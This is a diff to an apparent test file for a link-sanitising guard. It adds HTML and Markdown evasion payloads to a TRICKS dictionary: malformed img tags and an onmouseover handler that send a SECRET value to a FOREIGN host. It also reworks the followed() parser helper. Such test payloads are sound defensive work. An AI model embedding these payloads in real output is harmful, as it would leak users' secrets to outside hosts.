@@ -139,6 +139,8 @@ TRICKS = {
     "an application": f"intent://{FOREIGN}/{SECRET}#Intent;end",
     "a tag behind an open quotation mark": f"<a title='x\n\n<img src=//{FOREIGN}/{SECRET}>",
     "a tag in a tag": f"<img alt=x <b src=//{FOREIGN}/{SECRET}>",
+    "a tag's name with a bracket": f"<b< onmouseover=x('{SECRET}') >Open.</b>",
+    "a tag with a bracket before its address": f"<img alt=< src=//{FOREIGN}/{SECRET}>",
     "halves with a picture between": f"htt![](//{FOREIGN}/a)ps://{FOREIGN}/{SECRET}",
     "a tag with a picture in its name": f"<im![](//{FOREIGN}/a)g src=//{FOREIGN}/{SECRET}>",
     "code in a tag": f"<div>\n```\n<img src=//{FOREIGN}/{SECRET}>\n```\n</div>",
@@ -215,8 +217,10 @@ def _led_to(address: str) -> Iterator[str]:
 
 def followed(text: str) -> list[str]:
     """Where a browser goes from this text, shown as Markdown with HTML, or as HTML: read by other parsers than the guard's."""
-    page = _Followed()
-    page.feed(MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(text))
-    page.feed(text)
-    page.close()
-    return [one for one in page.found if one not in (OWN, "tel", "mailto")]
+    found: list[str] = []
+    for markup in (MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(text), text):
+        page = _Followed()
+        page.feed(markup)
+        page.close()
+        found += page.found
+    return [one for one in found if one not in (OWN, "tel", "mailto")]
